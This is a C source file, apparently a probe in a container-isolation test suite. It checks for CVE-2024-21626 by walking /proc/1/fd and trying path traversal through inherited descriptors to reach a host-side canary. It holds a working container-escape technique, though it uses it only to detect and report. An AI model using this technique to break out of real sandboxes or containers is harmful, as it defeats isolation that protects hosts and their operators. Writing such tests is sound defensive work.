/* CVE-2024-21626: one forgotten descriptor of the host is a way out. */
#include "../program/attack.h"

#include <dirent.h>

/*
 * Where this program is its own init, the pipe to the attempt is its own too; where ours is, its
 * signals and the fifo that it made in the guest's own /run are.
 */
static bool own(const char *path)
{
    char target[32] = {0};
    if (leads_inside(path))
        return true;
    if (readlink(path, target, 31) <= 0)
        return false;
    if (!strcmp(target, "anon_inode:[signalfd]") || !strcmp(target, "/run/initctl"))
        return true;
    return leads_inside("/proc/1/exe") && strncmp(target, "pipe:", 5) == 0;
}

static struct outcome attempt(const struct facts *facts)
{
    char path[64];
    DIR *list = opendir("/proc/1/fd");
    const struct dirent *entry;
    if (!list)
        return refused(errno);
    while ((entry = readdir(list))) {
        (void)snprintf(path, sizeof(path), "/proc/1/fd/%.20s/../../../../..", entry->d_name);
        if (entry->d_name[0] != '.' && finds_canary(facts, AT_FDCWD, path))
            return succeeded("descriptor %s", entry->d_name);
        (void)snprintf(path, sizeof(path), "/proc/1/fd/%.20s", entry->d_name);
        if (entry->d_name[0] != '.' && strtol(entry->d_name, NULL, 10) > 2 && !own(path))
            return succeeded("descriptor %s", entry->d_name);
    }
    return contained("none that leads outside");
}

ATTACK("find a forgotten descriptor of its init", attempt, EACCES)
